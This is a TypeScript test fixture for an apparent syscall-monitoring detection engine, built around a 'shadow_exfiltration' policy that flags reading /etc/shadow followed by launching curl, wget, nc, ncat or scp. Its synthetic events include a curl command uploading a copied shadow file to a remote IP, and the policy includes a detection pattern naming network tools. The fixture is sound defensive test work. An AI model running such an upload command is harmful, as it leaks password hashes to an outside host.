/** What the views are shown in tests: one hunt, from its machine to its match. */
import type { Machine, Step } from "../../../compiler/machine.ts";
import { kindId } from "../../../compiler/kinds/kinds.ts";
import type { EventData, Match, RunStatus, Transition } from "../../../engine/report.ts";
import type { PolicyStatus } from "../../../session/types.ts";

export const SOURCE = `@attack("T1003.008")
@description("reads the shadow file, then starts a network client")
path "shadow_exfiltration" by tree within 5m severity high {
    openat { pathname =~ "^/etc/(shadow|gshadow)$", ret >= 0 }
    write { content =~ "root:" }..
    block "network_tool" { execve { filename =~ "/(curl|wget|nc|ncat|scp)$" } }
}
`;

const MS = 1e6;

export const OPENED: EventData = {
  ts: 1_500 * MS,
  pid: 4242,
  tid: 4242,
  ppid: 4000,
  comm: "sh",
  kind: "openat",
  syscall: "openat",
  args: { pathname: "/etc/shadow", dirfd: -100, flags: 0o2000000, mode: 0 },
  ret: 3,
};

export const CREATED: EventData = {
  ...OPENED,
  ts: 1_501 * MS,
  syscall: "creat",
  args: { pathname: "/tmp/copy", dirfd: -100, flags: 0o1101, mode: 0o600 },
  ret: -13,
  late: true,
};

export const WRITTEN: EventData = {
  ts: 1_507_700_000,
  pid: 4242,
  tid: 4243,
  comm: "sh",
  kind: "write",
  syscall: "write",
  args: { fd: 4, content: "root:*:19000:0:99999:7:::\ndaemon:*:19000:0:", len: 1204 },
  truncated: ["content"],
  ret: 1204,
};

export const STARTED: EventData = {
  ts: 63_200 * MS,
  pid: 4250,
  tid: 4250,
  comm: "sh",
  kind: "execve",
  syscall: "execve",
  phase: "enter",
  args: {
    filename: "/usr/bin/curl",
    argv: ["curl", "-s", "--data-binary", "@/tmp/copy", "http://198.51.100.7:8080/upload"],
    argc: 5,
    env: ["HOME=/root", "PATH=/usr/bin:/bin"],
    dirfd: -100,
    flags: 0,
  },
};

export const CONNECTED: EventData = {
  ts: 3_723_004_000_000,
  pid: 4250,
  tid: 4250,
  comm: "curl",
  kind: "connect",
  syscall: "connect",
  args: { fd: 5, family: 2, ip: "198.51.100.7", port: 8080 },
  ret: -115,
};

export const UNKNOWN: EventData = {
  ts: 0,
  pid: 1,
  tid: 1,
  kind: "call",
  syscall: "ptrace",
  args: {},
  ret: 9_007_199_254_740_993n,
};

export const EVENTS = [UNKNOWN, OPENED, CREATED, WRITTEN, STARTED, CONNECTED];

export const MATCH: Match = {
  type: "match",
  policy: "shadow_exfiltration",
  severity: "high",
  subject: { by: "tree", id: 4000 },
  start: OPENED.ts,
  end: STARTED.ts,
  blocks: ["network_tool"],
  steps: [
    { line: 4, count: 1, first: OPENED },
    { line: 5, count: 12, first: WRITTEN, last: { ...WRITTEN, ts: 1_900 * MS } },
    { line: 6, count: 1, first: STARTED },
  ],
  attack: ["T1003.008"],
  description: ["reads the shadow file, then starts a network client"],
};

function step(kind: string, label: string, line: number): Step {
  return {
    kind: kindId(kind) ?? 0,
    phase: "enter",
    condition: { is: "all", of: [] },
    span: { start: 0, end: 0, line, column: 1 },
    label,
  };
}

export const MACHINE: Machine = {
  name: "shadow_exfiltration",
  subject: "tree",
  severity: "high",
  within: 300e9,
  cooldown: null,
  annotations: [["attack", "T1003.008"]],
  steps: [
    step("openat", "openat /etc/(shadow|gshadow)", 4),
    step("write", "write root:", 5),
    step("execve", "execve /(curl|wget|nc|ncat|scp)", 6),
  ],
  states: [
    { name: "start", edges: [edge(0, 1)], without: [] },
    { name: "after line 4: openat /etc/(shadow|gshadow)", edges: [edge(1, 2)], without: [] },
    { name: "after line 5: write root:", edges: [edge(2, "match"), edge(1, 2)], without: [] },
  ],
  until: null,
  patterns: [],
  file: "shadow.policy",
  source: SOURCE,
  span: { start: 0, end: SOURCE.length, line: 3, column: 1 },
};

/** BRANCHED takes one of two ways, of which one is benign. */
export const BRANCHED: Machine = {
  ...MACHINE,
  name: "branched",
  within: null,
  steps: [
    step("openat", "openat /dev/input", 1),
    step("execve", "execve cat", 2),
    step("unlink", "unlink", 3),
    step("write", "write", 4),
  ],
  states: [
    { name: "start", edges: [edge(0, 1), edge(1, 2)], without: [] },
    { name: "after line 1: openat /dev/input", edges: [edge(3, "match")], without: [] },
    { name: "after line 2: execve cat", edges: [edge(2, "dismissed")], without: [] },
  ],
};

function edge(step: number, to: number | "match" | "dismissed") {
  return { step, to, blocks: [], repeat: false };
}

export const RUNS: readonly RunStatus[] = [
  {
    policy: "shadow_exfiltration",
    subject: { by: "tree", id: 4000 },
    state: 1,
    stateName: "after line 4: openat /etc/(shadow|gshadow)",
    waits: ["write root:"],
    start: OPENED.ts,
    since: OPENED.ts,
    left: 238_300 * MS,
    steps: [{ line: 4, count: 1, first: OPENED }],
    tainted: false,
  },
  {
    policy: "dropper",
    subject: { by: "user", id: 1000 },
    state: 2,
    stateName: "after line 9: chmod",
    waits: ["execve /tmp", "unlink"],
    start: 12e9,
    since: 75.12e9,
    left: null,
    steps: [],
    tainted: true,
  },
];

export const POLICIES: readonly PolicyStatus[] = [
  {
    policy: "shadow_exfiltration",
    tried: 880_412,
    begun: 52_310,
    advanced: 12,
    matches: 2,
    dismissed: 0,
    suppressed: 0,
    live: 3,
    standing: [0, 2, 1],
    subject: "tree",
    severity: "high",
    states: 3,
    waits: ["openat", "write", "execve"],
    file: "shadow.policy",
  },
  {
    policy: "dropper",
    tried: 3,
    begun: 0,
    advanced: 0,
    matches: 0,
    dismissed: 0,
    suppressed: 0,
    live: 0,
    standing: [],
    subject: "process",
    severity: "critical",
    states: 12,
    waits: ["chmod", "execve"],
    file: "<prompt>",
  },
];

export const TRANSITIONS: readonly Transition[] = [
  move("begin", 0, 1, OPENED, 4),
  move("advance", 1, 2, WRITTEN, 5),
  move("repeat", 2, 2, WRITTEN, 5),
  move("match", 2, undefined, STARTED, 6),
  move("dismissed", 2, undefined, STARTED, 6),
  move("within", 1, undefined),
  move("without", 1, undefined, CONNECTED, 7),
  move("until", 1, undefined, CONNECTED, 8),
  move("replaced", 1, undefined, OPENED),
  move("subject", 1, undefined),
  move("reload", 1, undefined),
];

function move(
  cause: Transition["cause"],
  from: number,
  to?: number,
  event?: EventData,
  line?: number,
): Transition {
  return {
    type: "transition",
    policy: "shadow_exfiltration",
    subject: { by: "tree", id: 4000 },
    cause,
    from,
    ...(to === undefined ? {} : { to }),
    ...(line === undefined ? {} : { line }),
    ...(event === undefined ? {} : { event }),
    ts: event?.ts ?? 2e9,
  };
}
